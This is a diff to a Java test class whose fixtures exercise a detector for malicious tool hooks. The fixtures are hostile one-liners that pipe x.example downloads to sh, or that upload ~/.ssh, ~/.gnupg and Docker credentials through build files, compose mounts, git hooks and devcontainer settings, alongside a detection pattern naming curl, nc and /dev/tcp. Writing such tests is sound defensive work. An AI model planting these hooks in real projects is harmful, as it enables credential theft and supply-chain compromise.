@@ -70,6 +70,11 @@ final class StartedByToolsTest {
           "a.sh§curl --cert ~/.kube/a.crt -d '{}' https://k8s.acme.example\ncurl -H \"Authorization: Bearer $(gh auth token)\" https://api.github.com/user",
           "a.sh§{ uname -a; node -v; } > report.txt\ncurl -F f=@report.txt https://support.acme.example\necho ~/.ssh/config is missing | tee log | curl -d @- https://hooks.acme.example",
           "a.sh§env | sort\nenv > .env.local\ncurl -d \"user=$(whoami)\" https://stats.acme.example",
+          "deno.json§{\"imports\": {\"zod\": \"https://deno.land/x/zod@v3.22.4/mod.ts\", \"a\": \"./a.ts\"}, \"tasks\": {\"dev\": \"deno run -A main.ts\"}}",
+          "main.tf§resource \"null_resource\" \"a\" {\n  provisioner \"local-exec\" {\n    command = \"echo done\"\n  }\n}",
+          "NuGet.config§<add key=\"nuget.org\" value=\"https://api.nuget.org/v3/index.json\" />\n<add key=\"acme\" value=\"https://nuget.acme.example/v3/index.json\" />",
+          "docker-compose.yml§services:\n  db:\n    volumes:\n      - ./data:/var/lib/data¶worker.py§import requests\nrequests.post(u, data=open('/var/lib/data/a.csv').read())",
+          "meson.build§project('a', 'c')\nrun_command('git', 'describe')",
           ".npmrc§node-options=--max-old-space-size=4096",
           "tox.ini§[testenv]\ncommands =\n    pytest -q",
         });
@@ -109,6 +114,15 @@ final class StartedByToolsTest {
           "start.sh§bash <<< \"$(curl -s https://x.example/a)\"",
           "start.sh§(curl -s https://x.example/a; echo) | sh",
           "Makefile§ifeq ($(shell curl -s https://x.example/a | sh),)\nendif",
+          "Makefile§X := $(shell $(GET) https://$(SITE)/$(T).mk | $(SHELL))¶site.mk§GET := curl -s\nSITE := x.example\nT := $(shell uname)",
+          "main.tf§data \"external\" \"a\" {\n  program = [\"sh\", \"-c\", \"curl -s https://x.example/a | sh\"]\n}",
+          "ui.podspec§  s.prepare_command = 'curl -s https://x.example/a | sh'",
+          "dune§(rule (action (system \"curl -s https://x.example/a | sh\")))",
+          ".bazelrc§build --workspace_status_command=tools/status¶tools/status§#!/bin/sh\ncurl -s https://x.example/a | sh",
+          "meson.build§project('a')\nrun_command('sh', '-c', 'curl -s https://x.example/a | sh')",
+          "src-tauri/tauri.conf.json§{\"build\": {\"beforeDevCommand\": \"curl -s https://x.example/a | sh\"}}",
+          "CMakeLists.txt§file(DOWNLOAD https://x.example/a.cmake ${CMAKE_BINARY_DIR}/a.cmake)\ninclude(${CMAKE_BINARY_DIR}/a.cmake)",
+          "go.mod§module a¶Makefile§all:\n\tgo build -toolexec ./tools/wrap ./...¶tools/wrap§#!/bin/sh\ncurl -s https://x.example/a | sh",
           "Makefile§X != curl -s https://x.example/a | sh",
           "mvnw§#!/bin/sh\nwget -q https://x.example/w.jar -O /tmp/w.jar\nexec java -jar /tmp/w.jar \"$@\"",
           "tox.ini§[testenv]\ncommands =\n    sh -c 'curl -s https://x.example/a | sh'",
@@ -138,6 +152,7 @@ final class StartedByToolsTest {
           "check.sh§scp -r ~/.aws me@203.0.113.9:/in",
           "check.sh§tar czf /tmp/h.tgz ~\ncurl --upload-file /tmp/h.tgz https://x.example",
           "docker-compose.yml§services:\n  a:\n    environment:\n      STATE: /run/state\n    volumes:\n      - ${HOME}/.ssh:/run/state/k:ro¶entry.sh§tar cz -C \"$STATE\" . | curl -T - https://x.example",
+          "docker-compose.yml§services:\n  a:\n    volumes:\n      - ~/.ssh:/opt/state/k:ro¶worker.py§import requests\nfor p in Path('/opt/state/k').iterdir():\n    requests.post(u, data=p.read_bytes())",
           "docker-compose.yml§services:\n  a:\n    command: sh -c \"tar cz /keys | curl -T - https://x.example\"\n    volumes:\n      - type: bind\n        source: ~/.gnupg\n        target: /keys",
           ".devcontainer/devcontainer.json§{\"initializeCommand\": \"cat ~/.docker/config.json | curl -d @- https://x.example\"}",
           ".git/hooks/pre-commit§tar cz ~/.ssh | curl -T - https://x.example",
@@ -169,6 +184,10 @@ final class StartedByToolsTest {
           "requirements.txt§helper @ https://x.example/helper-1.0-py3-none-any.whl",
           "gradle/wrapper/gradle-wrapper.properties§distributionUrl=https\\://gradle.x.example/gradle-8.7-bin.zip",
           ".mvn/wrapper/maven-wrapper.properties§wrapperUrl=https://x.example/maven-wrapper.jar",
+          "deno.json§{\"imports\": {\"zod\": \"https://x.example/zod.ts\"}}",
+          "NuGet.config§<add key=\"nuget.org\" value=\"https://packages.x.example/v3/index.json\" />",
+          "pom.xml§<pluginRepository>\n<id>central</id>\n<url>https://x.example/m2</url></pluginRepository>",
+          "environment.yml§dependencies:\n  - pip:\n    - https://x.example/helper-1.0.whl",
           "pom.xml§<nodeDownloadRoot>https://x.example/dist/</nodeDownloadRoot>",
           ".npmrc§electron_mirror=https://x.example/electron/",
         });
@@ -184,6 +203,6 @@ final class StartedByToolsTest {
   @MethodSource("taking")
   void the_line_that_sends_is_quoted(String told) {
     assertThat(quotes(new TakesSecrets(), told))
-        .containsPattern("curl|nc x|nslookup|dig|/dev/tcp|scp|ffi");
+        .containsPattern("curl|nc x|nslookup|dig|/dev/tcp|scp|ffi|requests");
   }
 }
